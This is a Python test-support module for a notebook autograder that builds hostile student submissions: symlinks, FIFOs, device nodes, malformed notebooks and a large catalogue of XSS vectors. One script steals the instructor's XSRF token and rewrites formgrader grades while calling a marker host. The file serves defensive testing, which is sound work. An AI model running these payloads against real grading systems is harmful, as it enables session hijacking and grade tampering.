"""Hostile submissions: code or files that try to win points they have not earned, or to
reach beyond their own submission.

A chapter's grading folder may hold a catalogue of attempts (its hostile.py: CATALOGUE,
plus WRONG_BODY and WRONG_ANSWER, the wrong body or answer each target hides behind); this
module builds their submissions.  Each attempt pairs its hostile code with a wrong answer for the items it targets, so
"gained nothing" is a plain check: the targets score 0, every other item keeps the
score an honest submission gets, nothing outside the submission changes, and nothing
secret shows up in any report.  An attempt whose trick works prints a line starting
with LEAK_MARK (it wrote to the worker, traced it, found another task's traces...), so
the tests look for that mark too.  tests/hostile_batch.py grades every attempt in one
batch with honest submissions, through `hero grade` and `nbgrader autograde`;
tests/test_hostile.py runs that batch as root and as an ordinary user.

Code templates may use {notebook} (the assignment's notebook name), {repo} (this repository), {course} (the course root of the
batch: its gradebook), {home}, {marker} (a path outside the submission the attempt
tries to write), {secret_name}, {port} and {victim} (the start of a secret that only
an honest submission of the same batch holds).
"""

import json
import os
import shutil
import socket
import stat
from dataclasses import dataclass
from pathlib import Path

from . import registry, release

LEAK_MARK = "HERO-LEAK"
PACKAGE, NOTEBOOK = "package", "notebook"  # targets: every exercise of the package, every answer


@dataclass(frozen=True)
class Attempt:
    id: str
    what: str
    # "module" (top of model.py), "exercise" (start of the target's body), "answer" (its cell)
    # or "file" (`code` names a recipe in FILE_RECIPES: links, FIFOs, devices, broken notebooks)
    where: str
    target: str  # an item id, PACKAGE, NOTEBOOK, or "" for an attempt that hides no wrong answer
    code: str
    nbgrader_skips: bool = False  # nbgrader cannot process it: screened out there, whole

    def targets(self, assignment):
        """Items that must score 0: the wrong answers the attempt hides."""
        if self.target == PACKAGE:
            return {e.id for e in assignment.exercises}
        if self.target == NOTEBOOK:
            return {a.id for a in assignment.answers}
        return {self.target} if self.target else set()

    def may_cost(self, assignment, path="hero"):
        """Items an attempt may lose: its targets, every package exercise for code that runs when
        the package is imported (every exercise imports it), everything where nbgrader skips it."""
        every = {item.id for item in assignment.exercises + assignment.answers}
        if path == "nbgrader" and self.nbgrader_skips:
            return every
        if self.where == "module":
            return self.targets(assignment) | {e.id for e in assignment.exercises}
        return self.targets(assignment)


def _insert_at_body(text, fault, code):
    """Put `code` at the start of the fault's body inside model.py's text."""
    first_line = next(line for line in fault.body("") if line.strip())
    lines = text.splitlines(keepends=True)
    index = next(i for i, line in enumerate(lines) if line.strip() == first_line.strip())
    indent = lines[index][: len(lines[index]) - len(lines[index].lstrip())]
    hostile = "".join(indent + line + "\n" if line else "\n" for line in code.splitlines())
    return "".join(lines[:index]) + hostile + "".join(lines[index:])


def build(assignment, attempt, dest: Path, samples: Path, **values):
    """Write the attempt's submission folder at `dest`; `values` fill the code template.

    The base is the reference sample under `samples` (one assignment's samples folder), or
    the sample of the fault that makes the target wrong."""
    chapter = assignment.part("hostile")
    # the mark is printed from two adjacent literals, so the attempt's own source never holds it
    code = attempt.code.format(leak=LEAK_MARK.replace("-", "' '-"), notebook=assignment.notebook_name, **values)
    wrong_body = attempt.where in ("module", "exercise") and attempt.target in chapter.WRONG_BODY
    fault = next(e for e in assignment.entries("fault") if e.id == chapter.WRONG_BODY[attempt.target]) \
        if wrong_body else None
    shutil.copytree(samples / (fault.sample if fault else "reference"), dest)
    if attempt.where in ("exercise", "module"):
        exercise = registry.exercise(fault.exercise) if fault else assignment.exercises[0]
        module_path = dest / registry.PACKAGE / f"{exercise.module}.py"
        text = module_path.read_text(encoding="utf-8")
        text = _insert_at_body(text, fault, code) if attempt.where == "exercise" else code + text
        module_path.write_text(text, encoding="utf-8")
    elif attempt.where == "answer":
        # the wrong value first: an attack that works would overwrite it
        release.replace_answers(dest / assignment.notebook_name,
                                {attempt.target: chapter.WRONG_ANSWER[attempt.target] + "\n" + code})
    else:
        recipe, relpath, *target = code.split(":", 2)
        FILE_RECIPES[recipe](dest / relpath, *target, answer=chapter.WRONG_ANSWER.get(attempt.target),
                             answer_id=attempt.target)
    return dest


def _replace(path):
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    elif path.exists() or path.is_symlink():
        path.unlink()


def _link(path, target, **_):
    _replace(path)
    path.symlink_to(target)


def _relative_link(path, target, **_):
    _link(path, os.path.relpath(target, path.parent))


def _fifo(path, **_):
    os.mkfifo(path)


def _device(path, **_):
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))  # /dev/zero; root only
    except PermissionError:
        path.symlink_to("/dev/zero")


def _socket(path, **_):
    server, here = socket.socket(socket.AF_UNIX), os.getcwd()
    os.chdir(path.parent)  # a socket's path is limited to 107 bytes; its name alone is short
    try:
        server.bind(path.name)
    finally:
        os.chdir(here)
        server.close()  # the socket file stays


def _deep_notebook(path, **_):
    depth = 100_000
    path.write_text('{"nbformat": 4, "cells": ' + "[" * depth + "]" * depth + "}", encoding="utf-8")


def _old_schema(path, answer, answer_id, **_):
    release.replace_answers(path, {answer_id: answer})
    notebook = json.loads(path.read_text(encoding="utf-8"))
    graded = next(cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade"))
    graded["metadata"]["nbgrader"]["schema_version"] = 1
    path.write_text(json.dumps(notebook), encoding="utf-8")


def _foreign_notebook(path, assignment_id, answer, answer_id, **_):
    """Another assignment's notebook, every answer filled from its solution, beside the
    submission's own notebook (whose target answer is made wrong): graded as its own assignment,
    the submission must not become the other one."""
    own = [p for p in sorted(path.parent.glob("*.ipynb")) if p != path]
    if answer is not None:
        for notebook in own:
            release.replace_answers(notebook, {answer_id: answer})
    other = registry.ASSIGNMENTS[assignment_id]
    path.write_text(release.answered_notebook(
        registry.REPO_ROOT / registry.RELEASE_DIR / other.id / other.notebook_name,
        registry.REPO_ROOT / registry.SOLUTION_DIR / other.id / other.notebook_name), encoding="utf-8")


FILE_RECIPES = {"link": _link, "relative-link": _relative_link, "fifo": _fifo, "device": _device,
                "socket": _socket, "deep-notebook": _deep_notebook, "old-schema": _old_schema,
                "foreign-notebook": _foreign_notebook}


# --- student HTML for the instructor's browser (formgrader) and the feedback page -------------
XSS_MARK = "HERO-XSS"  # every payload that runs shows it: alert, document.title, a request
XSS_HOST = "hero-xss.invalid"  # a marker host (.invalid never resolves): any request to it is a leak


def xss_script(vector, assignment="ch05_block", notebook="ch05_block"):
    """JavaScript that, if it ever runs, shows itself (alert, document.title, requests to the marker
    host and to the page's own /hero-xss-marker/) and does what the red team's did: through
    formgrader's API, with the instructor's session, 70 extra credit on every grade of its own
    submission and 0 on every other submission's.  No double quote, < or &: it fits in an attribute."""
    return (f"alert('{XSS_MARK}:{vector}');document.title='{XSS_MARK}';"
            f"new Image().src='http://{XSS_HOST}/{vector}';fetch('/hero-xss-marker/{vector}');"
            "var b=location.origin+(typeof base_url=='string'?base_url:'/formgrader'),"
            "k=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'',"
            "h={'X-XSRFToken':decodeURIComponent(k),'Content-Type':'application/json'};"
            f"fetch(b+'/api/submitted_notebooks/{assignment}/{notebook}').then(function(r){{return r.json()}})"
            ".then(function(s){s.forEach(function(n){fetch(b+'/api/grades?submission_id='+n.id)"
            ".then(function(r){return r.json()}).then(function(g){g.forEach(function(i){"
            "var mine=typeof submission_id=='string'?n.id==submission_id:true;"
            "fetch(b+'/api/grade/'+i.id,{method:'PUT',headers:h,body:JSON.stringify("
            "mine?{manual_score:i.manual_score,extra_credit:70}:{manual_score:0,extra_credit:0})})})})})})")


def _b64(text):
    import base64

    return base64.b64encode(text.encode("utf-8")).decode("ascii")


def html_vectors(assignment="ch05_block", notebook="ch05_block"):
    """{vector: (where, payload)}: every way a notebook carries HTML or script to a browser.
    where: "markdown" (raw HTML or markdown syntax in a markdown cell), "raw-html" / "raw" (a raw
    cell with or without raw_mimetype text/html), "output" (a mime bundle of a code cell),
    "attachment" (a markdown cell's), "metadata" (the notebook's or a cell's)."""
    def s(vector):
        return xss_script(vector, assignment, notebook)

    def short(vector):  # for places without quotes or spaces
        return f"alert('{XSS_MARK}:{vector}')"

    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{s("svg-document-onload")}">'
           f'<script>{s("svg-document-script")}</script>'
           f'<image href="http://{XSS_HOST}/svg-document-image" width="10" height="10"/></svg>')
    page = f'<html><body><script>{s("html-document")}</script></body></html>'
    marker = f"http://{XSS_HOST}"
    return {
        # raw HTML in markdown: event handlers
        "img-onerror": ("markdown", f'<img src="x" onerror="{s("img-onerror")}">'),
        "svg-onload": ("markdown", f'<svg onload="{s("svg-onload")}"><circle r="1"></circle></svg>'),
        "svg-animate": ("markdown", f'<svg><animate onbegin="{s("svg-animate")}" attributeName="x" dur="1s"/></svg>'),
        "details-ontoggle": ("markdown", f'<details open ontoggle="{s("details-ontoggle")}"><summary>s</summary>'
                                         'd</details>'),
        "input-autofocus": ("markdown", f'<input autofocus onfocus="{s("input-autofocus")}">'),
        "video-onerror": ("markdown", f'<video src="x" onerror="{s("video-onerror")}"></video>'),
        "body-onload": ("markdown", f'<body onload="{s("body-onload")}">'),
        # scripts, SVG and MathML scripts
        "script": ("markdown", f"<script>{s('script')}</script>"),
        "svg-script": ("markdown", f"<svg><script>{s('svg-script')}</script></svg>"),
        "svg-foreignobject": ("markdown", '<svg><foreignObject width="10" height="10"><img src="x" '
                                          f'onerror="{s("svg-foreignobject")}"></foreignObject></svg>'),
        "svg-javascript-link": ("markdown", f'<svg><a href="javascript:{s("svg-javascript-link")}">'
                                            '<text x="0" y="15">svg link</text></a></svg>'),
        "mathml-script": ("markdown", f"<math><mtext><script>{s('mathml-script')}</script></mtext></math>"),
        "mathml-href": ("markdown", f'<math href="javascript:{s("mathml-href")}"><mi>x</mi></math>'),
        "mathml-mutation": ("markdown", "<math><mtext><table><mglyph><style><img src=x "
                                        f"onerror={short('mathml-mutation')}>"),
        "noscript-mutation": ("markdown", '<noscript><p title="</noscript><img src=x '
                                          f'onerror={short("noscript-mutation")}>"></p></noscript>'),
        # javascript:, vbscript: and data: URLs
        "a-javascript": ("markdown", f'<a href="javascript:{s("a-javascript")}">raw javascript link</a>'),
        "a-javascript-entities": ("markdown", f'<a href="jav&#x09;ascript&#58;{short("a-javascript-entities")}">'
                                              "entity link</a>"),
        "a-vbscript": ("markdown", '<a href="vbscript:msgbox(1)">vbscript link</a>'),
        "a-data-html": ("markdown", f'<a href="data:text/html;base64,{_b64(page)}">data link</a>'),
        "md-javascript-link": ("markdown", f"[markdown javascript link](javascript:{short('md-javascript-link')})"),
        "md-autolink": ("markdown", f"<javascript:{short('md-autolink')}>"),
        "md-data-link": ("markdown", f"[markdown data link](data:text/html;base64,{_b64(page)})"),
        "md-image": ("markdown", f"![markdown image]({marker}/md-image)"),
        "img-external": ("markdown", f'<img src="{marker}/img-external">'),
        "img-data-svg": ("markdown", f'<img src="data:image/svg+xml;base64,{_b64(svg)}">'),
        # frames, objects, forms
        "iframe-srcdoc": ("markdown", f'<iframe srcdoc="<script>{s("iframe-srcdoc")}</script>"></iframe>'),
        "iframe-javascript": ("markdown", f'<iframe src="javascript:{s("iframe-javascript")}"></iframe>'),
        "object-data-html": ("markdown", f'<object data="data:text/html;base64,{_b64(page)}"></object>'),
        "embed-data-svg": ("markdown", f'<embed src="data:image/svg+xml;base64,{_b64(svg)}">'),
        "form": ("markdown", f'<form action="{marker}/form" method="post"><input name="extra_credit" value="70">'
                             f'<button formaction="javascript:{s("form-button")}">Save grades</button></form>'),
        # CSS that fetches or covers the page, and what changes the whole page
        "style-tag": ("markdown", f"<style>@import url({marker}/style-import); "
                                  f"body {{ background: url({marker}/style-body); }}</style>"),
        "style-attribute": ("markdown", f'<div style="background-image: url({marker}/style-attribute); '
                                        'width: expression(alert(1)); position: fixed; top: 0">styled</div>'),
        "link-stylesheet": ("markdown", f'<link rel="stylesheet" href="{marker}/link-stylesheet">'),
        "meta-refresh": ("markdown", f'<meta http-equiv="refresh" content="30;url={marker}/meta-refresh">'),
        "base-href": ("markdown", f'<base href="{marker}/base/"><img src="base-relative.png">'),
        # math that MathJax (formgrader) or latex2mathml (feedback) would turn into markup
        "mathjax-href": ("markdown", f"$\\href{{javascript:{short('mathjax-href')}}}{{mathjax link}}$"),
        "mathjax-style": ("markdown", f"$\\style{{background: url({marker}/mathjax-style)}}{{x}}$"),
        "latex-text-html": ("markdown", f"$\\text{{<img src=x onerror={short('latex-text-html')}>}}$"),
        # attachments: an SVG with a script, an HTML page, one that is missing (nbconvert fails on it)
        "attachment-svg": ("attachment", ("evil.svg", "image/svg+xml", svg)),
        "attachment-html": ("attachment", ("page.html", "text/html", page)),
        "attachment-missing": ("markdown", "![gone](attachment:missing.png)"),
        # raw cells
        "raw-html": ("raw-html", f'<img src="x" onerror="{s("raw-html")}"><script>{s("raw-html-script")}</script>'),
        "raw": ("raw", f'<img src="x" onerror="{s("raw")}">'),
        # output mime bundles of a code cell
        "output-html": ("output", ("display_data", "text/html", f'<img src="x" onerror="{s("output-html")}">')),
        "output-javascript": ("output", ("display_data", "application/javascript", s("output-javascript"))),
        "output-svg": ("output", ("display_data", "image/svg+xml", svg)),
        "output-markdown": ("output", ("display_data", "text/markdown",
                                       f'<img src="x" onerror="{s("output-markdown")}">')),
        "output-latex": ("output", ("display_data", "text/latex",
                                    f"$\\href{{javascript:{short('output-latex')}}}{{latex output}}$")),
        "output-widget-view": ("output", ("display_data", "application/vnd.jupyter.widget-view+json",
                                          {"model_id": "hero-xss-widget", "version_major": 2, "version_minor": 0})),
        "output-isolated-html": ("output", ("execute_result", "text/html",
                                            f"<script>{s('output-isolated-html')}</script>")),
        # metadata: widget state (ipywidgets' HTML manager renders an HTML widget's value), title, tags
        "widget-state": ("metadata", ("widgets", {"application/vnd.jupyter.widget-state+json": {
            "version_major": 2, "version_minor": 0, "state": {"hero-xss-widget": {
                "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls", "model_module_version": "2.0.0",
                "state": {"value": f'<img src="x" onerror="{s("widget-state")}">'}}}}})),
        "notebook-title": ("metadata", ("title", f"</title><script>{s('notebook-title')}</script>")),
        "cell-tags": ("metadata", ("tags", [f'"><img src=x onerror={short("cell-tags")}>'])),
    }


def _html_notebook(path, answer, answer_id, **_):
    """The notebook with its `answer_id` answer wrong and every vector of html_vectors() in new
    cells after its first one: a markdown cell per vector (the mutation ones may eat the rest of
    their cell), raw cells, a code cell (a comment: the notebook runs as before) holding the hostile
    outputs, attachments, and the notebook's metadata."""
    import nbformat
    from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

    release.replace_answers(path, {answer_id: answer})
    notebook = nbformat.read(str(path), as_version=4)
    cells, outputs = [], []
    for vector, (where, payload) in html_vectors(path.stem, path.stem).items():
        if where == "markdown":
            cells.append(new_markdown_cell(f"hostile {vector}:\n\n{payload}\n"))  # a block of its own
        elif where == "attachment":
            filename, mime, text = payload
            cell = new_markdown_cell(f"hostile {vector}: ![attached](attachment:{filename})\n")
            cell.attachments = {filename: {mime: _b64(text)}}
            cells.append(cell)
        elif where in ("raw-html", "raw"):
            cells.append(new_raw_cell(payload, metadata={"raw_mimetype": "text/html"} if where == "raw-html" else {}))
        elif where == "output":
            kind, mime, data = payload
            output = new_output(kind, data={mime: data, "text/plain": f"hostile {vector}"})
            if kind == "execute_result":
                output.metadata = {"text/html": {"isolated": True}}
            outputs.append(output)
        elif vector == "cell-tags":
            cells.append(new_markdown_cell(f"hostile {vector}", metadata={"tags": payload[1]}))
        else:
            notebook.metadata[payload[0]] = payload[1]
    cells.append(new_code_cell("# hostile outputs: this cell never computed what it shows", outputs=outputs))
    notebook.cells[1:1] = cells
    nbformat.write(notebook, str(path))


FILE_RECIPES["html-notebook"] = _html_notebook
